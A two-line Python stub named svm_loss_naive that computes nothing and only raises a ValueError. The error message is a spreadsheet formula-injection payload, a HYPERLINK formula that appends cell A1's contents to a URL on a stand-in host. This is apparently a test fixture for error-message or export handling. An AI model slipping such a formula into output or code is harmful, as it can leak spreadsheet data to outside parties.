def svm_loss_naive(W, X, y, reg):
    raise ValueError('=HYPERLINK("http://example.org/?"&A1,"11")')
